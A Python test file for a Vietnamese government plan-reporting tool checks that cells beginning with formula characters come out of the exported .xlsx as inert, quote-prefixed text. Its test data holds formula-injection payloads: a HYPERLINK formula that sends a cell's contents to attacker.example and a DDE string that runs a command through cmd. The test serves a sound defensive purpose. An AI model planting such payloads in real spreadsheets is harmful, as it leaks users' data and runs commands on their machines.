"""Issue 12, item 7: a plan cell such as ``=HYPERLINK(...)`` must come out of the
exported .xlsx as inert text, never as a live formula."""

from __future__ import annotations

from datetime import date
from io import BytesIO

from openpyxl import load_workbook

from documents.report_rows import Report, Row, make_period
from documents.report_xlsx import report_xlsx
from models.progress import tally
from scheduler.workdays import WorkCalendar

LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm để xem")'
HOSTILE = (LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1")


def test_hostile_cells_are_written_as_text() -> None:
    rows = [Row("I. Mục =1+1")] + [
        Row(None, (str(n), text, "- Phòng Văn hóa - Xã hội", "Quý I/2026", text, "Đang thực hiện"))
        for n, text in enumerate(HOSTILE, 1)
    ]
    report = Report(
        organization="Xã Thử",
        plan_title="Kế hoạch CCHC năm 2026",
        year=2026,
        period=make_period("quy", 2026, date(2026, 3, 1), 1),
        as_of=date(2026, 3, 1),
        rows=rows,
        progress=tally([], date(2026, 3, 1), deadline_end=WorkCalendar().deadline_end),
    )
    sheet = load_workbook(BytesIO(report_xlsx(report)))["Kết quả thực hiện"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c for c in cells if isinstance(c.value, str)]
    for hostile in HOSTILE:
        found = [c for c in texts if c.value.endswith(hostile)]
        assert len(found) == 2, hostile  # content and product columns
        for cell in found:
            assert cell.data_type == "s"
            assert cell.quotePrefix  # Excel's own "this is text" marker
            assert cell.value in (hostile, "'" + hostile)
    # The leak cannot even start a formula in a CSV copy.
    assert all(c.value.startswith("'") for c in texts if c.value.endswith(LEAK))
    # An ordinary list dash keeps its text.
    assert any(c.value == "- Phòng Văn hóa - Xã hội" for c in texts)
